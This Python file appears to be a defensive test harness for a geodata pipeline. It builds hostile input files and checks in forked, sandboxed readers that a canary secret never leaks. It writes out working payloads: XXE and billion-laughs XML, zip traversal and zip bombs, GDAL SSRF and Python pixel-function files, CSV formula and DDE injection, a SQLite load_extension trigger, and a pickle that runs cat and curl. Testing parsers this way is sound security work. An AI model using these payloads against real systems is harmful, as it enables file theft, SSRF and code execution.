"""Files that try to read a secret of this machine, to reach an address, or to run code; and their readers.

As a program, `hostile_files.py FOLDER OUT` forks a reader for each file and way of reading. The results and
messages of the readers are written to OUT, where a test searches for the secret (decisions/0016).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import stat
import struct
import sys
import tempfile
import time
import zipfile
from pathlib import Path

CANARY = "canary4711"  # the secret, which no output of a reader may hold
SHARED = ("CDR", "OSI SAF")
POINT = {"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [1, 2]}}
_VRT = "<OGRVRTDataSource><OGRVRTLayer name='secret'><SrcDataSource>{}</SrcDataSource>{}</OGRVRTLayer></OGRVRTDataSource>"  # noqa: E501
_RASTER = (
    "<VRTDataset rasterXSize='8' rasterYSize='1'><VRTRasterBand dataType='Byte' band='1' {}>{}"
    "</VRTRasterBand></VRTDataset>"
)
_WKT = (
    'GEOGCS["x",DATUM["d",SPHEROID["s",6378137,298.257223563]],PRIMEM["Greenwich",0],'
    'UNIT["degree",0.0174532925199433],EXTENSION["PROJ4","{}"]]'
)
_XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{}">]>'
# Nine entities, each ten times the one before: resolved, the text has 200 million letters.
_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{f"&{last};" * 10}">' for last, name in zip("abcdefgh", "bcdefghi", strict=True)
)  # fmt: skip


def collection(**more: object) -> str:
    return json.dumps({"type": "FeatureCollection", "features": [POINT], **more})


def boxed(members: dict[str, bytes], mode: int = 0) -> bytes:
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as box:
        for name, content in members.items():
            row = zipfile.ZipInfo(name)
            row.compress_type, row.external_attr = zipfile.ZIP_DEFLATED, mode << 16
            box.writestr(row, content)
    return result.getvalue()


def shapes(**changed: bytes) -> dict[str, bytes]:
    """The parts of a shapefile of one point, with the parts in `changed` replaced."""
    import geopandas as gpd

    with tempfile.TemporaryDirectory() as name:
        table = gpd.GeoDataFrame({"n": ["x"]}, geometry=gpd.points_from_xy([1], [2]), crs=4326)
        table.to_file(Path(name) / "x.shp")
        parts = {path.name: path.read_bytes() for path in Path(name).iterdir()}
    return parts | {f"x.{part}": content for part, content in changed.items()}


def hdf5(kind: str, secret: Path) -> bytes:
    import h5py
    import numpy as np

    with tempfile.TemporaryDirectory() as name:
        path = Path(name) / "x.nc"
        with h5py.File(path, "w") as file:
            if kind == "link":
                file["ice"] = h5py.ExternalLink(str(secret.with_suffix(".h5")), "/ice")
            elif kind == "storage":
                file.create_dataset("ice", (16,), "u1", external=[(str(secret), 0, 16)])
            else:
                layout = h5py.VirtualLayout((16,), "u1")
                layout[:] = h5py.VirtualSource(str(secret.with_suffix(".h5")), "ice", (16,))
                file.create_virtual_dataset("ice", layout)
            file["x"] = np.arange(4)
        return path.read_bytes()


def sqlite(*statements: str) -> bytes:
    import sqlite3

    with tempfile.TemporaryDirectory() as name:
        path = Path(name) / "x.gpkg"
        base = sqlite3.connect(path)
        base.execute("PRAGMA application_id = 1196444487")
        for statement in statements:
            base.execute(statement)
        base.commit()
        base.close()
        return path.read_bytes()


class _Runs:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def files(secret: Path, url: str) -> dict[str, tuple[str, bytes]]:
    """The hostile files: file name and bytes by name; they lead to the file `secret` or to `url`."""
    local = f"<SourceFilename>{secret}</SourceFilename>"
    grid = f"+proj=longlat +datum=WGS84 +nadgrids={secret} +no_defs"
    endless = (
        "CREATE VIEW v AS WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT n FROM c"
    )
    texts = {
        "a VRT of a local file": ("a.json", _VRT.format(secret, "<LayerSRS>EPSG:4326</LayerSRS>")),
        "a VRT of a local file with SQL": ("b.json", _VRT.format(secret, "<SrcSQL>SELECT * FROM x</SrcSQL>")),
        "a VRT of an address": ("c.json", _VRT.format(f"/vsicurl/{url}/x.json", "")),
        "an OVF": ("d.ovf", _VRT.format(secret, "")),
        "a pipeline of a local file": (
            "e.json", json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector read {secret}"}),
        ),
        "a pipeline of an address": (
            "f.json", json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector read {url}/x"}),
        ),
        "a WFS": ("g.geojson", f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>"),
        "a raster VRT of a local file": (
            "h.tif", _RASTER.format("subClass='VRTRawRasterBand'", local + "<ImageOffset>0</ImageOffset>"),
        ),
        "a raster VRT of an address": (
            "i.tif",
            _RASTER.format(
                "", f"<SimpleSource><SourceFilename>/vsicurl/{url}/x.tif</SourceFilename></SimpleSource>"
            ),
        ),
        "a raster VRT with Python": (
            "j.tif",
            _RASTER.format(
                "subClass='VRTDerivedRasterBand'",
                "<PixelFunctionLanguage>Python</PixelFunctionLanguage><PixelFunctionType>f</PixelFunctionType>"
                f"<PixelFunctionCode>import os; os.system('curl {url}')</PixelFunctionCode>",
            ),
        ),
        "a WMS": (
            "k.tif", f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}/z</ServerUrl></Service></GDAL_WMS>",
        ),
        "a WMTS": ("l.tif", f"<GDAL_WMTS><GetCapabilitiesUrl>{url}/wmts</GetCapabilitiesUrl></GDAL_WMTS>"),
        "an MRF": (
            "m.tif",
            f"<MRF_META><CachedSource><Source>{secret}</Source></CachedSource><Raster><Size x='8' y='1'/>"
            f"<DataFile>{secret}</DataFile></Raster></MRF_META>",
        ),
        "a STAC collection of addresses": (
            "n.json", json.dumps({"type": "FeatureCollection", "stac_version": "1.0.0",
                                  "features": [POINT | {"assets": {"x": {"href": f"{url}/x.tif"}}}]}),
        ),
        "GeoJSON with its CRS by link": (
            "o.geojson", collection(crs={"type": "link", "properties": {"href": f"{url}/crs"}}),
        ),
        "GeoJSON with its CRS by a name that is an address": (
            "p.geojson", collection(crs={"type": "name", "properties": {"name": f"{url}/crs"}}),
        ),
        "GeoJSON with its CRS by a grid on disk": (
            "q.geojson", collection(crs={"type": "name", "properties": {"name": grid}}),
        ),
        "a GeoJSON bomb": (
            "r.geojson",
            collection().replace("[1, 2]", "[" * 50_000 + "]" * 50_000),
        ),
        "GML with an external entity": (
            "s.gml", f"{_XXE.format(secret.as_uri())}<gml:x xmlns:gml='http://www.opengis.net/gml'>&e;</gml:x>",
        ),
        "GML that laughs": (
            "t.gml", f"{_LAUGHS}]><gml:x xmlns:gml='http://www.opengis.net/gml'>&i;</gml:x>",
        ),
        "KML with a network link": (
            "u.kml",
            f"{_XXE.format(url)}<kml xmlns='http://www.opengis.net/kml/2.2'><Document><NetworkLink><Link>"
            f"<href>{url}/k</href></Link></NetworkLink><name>&e;</name></Document></kml>",
        ),
        "GPX with an external entity": (
            "v.gpx", f"{_XXE.format(secret.as_uri())}<gpx creator='&e;'><wpt lat='1' lon='2'/></gpx>",
        ),
        "a CSV with formulas": (
            "w.csv", f"id,name\n1,\"=WEBSERVICE(\"\"{url}\"\")\"\n2,=cmd|' /C type {secret}'!A0\n",
        ),
        "an address for a NetCDF": ("x.nc", f"{url}/dods/ice.nc#mode=bytes"),
    }  # fmt: skip
    plain = {name: (file, text.encode()) for name, (file, text) in texts.items()}
    link, vrt = stat.S_IFLNK | 0o777, plain["a VRT of a local file"][1]
    named = str(secret).encode()
    return plain | {
        "a zip that climbs out": ("z1.zip", boxed(shapes() | {"../../x.shp": b"x"})),
        "a zip with a link": ("z2.zip", boxed(dict.fromkeys(("x.shp", "x.json"), named), link)),
        "a zip bomb": ("z3.zip", boxed(shapes(cpg=b"0" * 30_000_000))),
        "a zip with a VRT for shapes": (
            "z4.zip", boxed(shapes(shp=vrt, json=vrt)),
        ),
        "shapes whose CRS names a grid on disk": ("z5.zip", boxed(shapes(prj=_WKT.format(grid).encode()))),
        "shapes whose CRS names a grid elsewhere": (
            "z6.zip", boxed(shapes(prj=_WKT.format(grid.replace(str(secret), f"{url}/g.tif")).encode())),
        ),
        "shapes whose CRS is a file": ("z7.zip", boxed(shapes(prj=f"+init={secret}:x".encode()))),
        "shapes whose encoding is a path": ("z8.zip", boxed(shapes(cpg=str(secret).encode()))),
        "a GeoPackage with a trigger and a view without end": (
            "g1.gpkg",
            sqlite(
                "CREATE TABLE gpkg_contents (table_name TEXT, data_type TEXT)",
                "CREATE TRIGGER t AFTER INSERT ON gpkg_contents BEGIN "
                f"SELECT load_extension('{secret}'); END",
                endless,
            ),
        ),
        "an HDF5 link to another file": ("h1.nc", hdf5("link", secret)),
        "HDF5 values stored in another file": ("h2.nc", hdf5("storage", secret)),
        "a virtual HDF5 dataset": ("h3.nc", hdf5("virtual", secret)),
        "a pickle that runs a command": (
            "p1.pkl", pickle.dumps(_Runs(f"cat {secret}; curl -s {url}/pickle")),
        ),
        "a spreadsheet with an external entity": (
            "x1.xlsx",
            boxed(
                {
                    "[Content_Types].xml": _XXE.format(secret.as_uri()).encode() + b"<Types>&e;</Types>",
                    "xl/workbook.xml": _XXE.format(url).encode() + b"<workbook>&e;</workbook>",
                }
            ),
        ),
        "a TIFF of 29 TiB": (
            "t1.tif",
            b"II*\0" + struct.pack("<IH", 8, 5)
            + b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in (
                (256, 2**22), (257, 2**22), (258, 16), (273, 8), (279, 2**31)))
            + b"\0\0\0\0",
        ),
    }  # fmt: skip


def readers() -> dict[str, object]:
    """Every way in which a reader of the project opens a file, and the ways in which GDAL alone would."""
    import geopandas as gpd
    import pandas as pd
    import rasterio

    from pipelines.intake.sniff import sniff
    from pipelines.read_helpers import read_rows
    from pipelines.sources.sea_ice import noaa_cdr_g02202, nsidc_sea_ice_index, osisaf_sic
    from pipelines.sources.sea_ice.ice_samples import opened
    from pipelines.sources.society import natural_earth

    def table(place: str) -> str:
        frame = gpd.read_file(place)
        return str(frame.crs) + frame.to_json()

    def grid(path: Path) -> bytes:
        with opened(path) as file:
            return b"".join(file[name].to_numpy().tobytes() for name in file.variables)

    def raster(path: Path, **how: str) -> bytes:
        with rasterio.open(path, **how) as file:
            assert file.width * file.height < 10**8
            return bytes(file.read().tobytes())

    def sniffed(path: Path) -> str:
        kinds = {
            "json": "json", "geojson": "geojson", "zip": "zip", "csv": "csv", "nc": "netcdf", "xlsx": "xlsx",
            "tif": "tiff",
        }  # fmt: skip
        return str(sniff(path, kinds.get(path.suffix[1:], "bytes")))

    return {
        "sniff": sniffed,
        "vectors": lambda path: table(str(path)),
        "zipped vectors": lambda path: table(f"zip://{path}"),
        "rasters": raster,
        "GeoTIFF": lambda path: raster(path, driver="GTiff"),
        "NetCDF": grid,
        "CDR": lambda path: str(noaa_cdr_g02202.read_sample(path)),
        "OSI SAF": lambda path: str(osisaf_sic.read_sample(path)),
        "polygons": lambda path: str(nsidc_sea_ice_index.read_polygons(path)),
        "rows": lambda path: read_rows(path).to_csv(),
        "spreadsheet": lambda path: pd.read_excel(path).to_csv(),
        "pickle": lambda path: str(natural_earth._plain(path)),
    }


def main(folder: Path, out: Path, *, limited: bool) -> None:
    """Fork a reader for each file that reads it in every way, even if sniffing would have refused it.

    The ways in `SHARED` open a file like another way does. They are left out if `limited` is false.
    """
    import platform
    import warnings

    import pyogrio
    import rasterio

    platform.processor()  # xarray asks for it, and it starts a program, which a limited reader may not do
    warnings.simplefilter("ignore")
    ways = readers()
    pyogrio.list_drivers()  # once for all that are forked
    with rasterio.Env():
        pass
    ways = {name: read for name, read in ways.items() if limited or name not in SHARED}
    for path in sorted(folder.iterdir()):
        child = os.fork()
        if child == 0:
            _read(path, ways, out, limited=limited)
        ends = time.monotonic() + 60
        while os.waitpid(child, os.WNOHANG) == (0, 0):
            assert time.monotonic() < ends, f"{path.name}: no end"
            time.sleep(0.002)


def _read(path: Path, ways: dict[str, object], out: Path, *, limited: bool) -> None:
    from pipelines.intake.sandbox_child import limit

    if limited:
        limit()
    for name, read in ways.items():
        with (out / f"{path.name}.{name}").open("wb") as stream:
            os.dup2(stream.fileno(), 1)
            os.dup2(stream.fileno(), 2)
            try:
                got = read(path)
                stream.write(b"READ " + (got if isinstance(got, bytes) else got.encode(errors="replace")))
            except BaseException as error:  # noqa: BLE001  whatever it is, it is looked through
                # An error may hold the name of the secret file, but not its content.
                stream.write(f"REFUSED {type(error).__name__} {error}".encode(errors="replace"))
    os._exit(0)


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]), limited=sys.argv[3] == "limited")
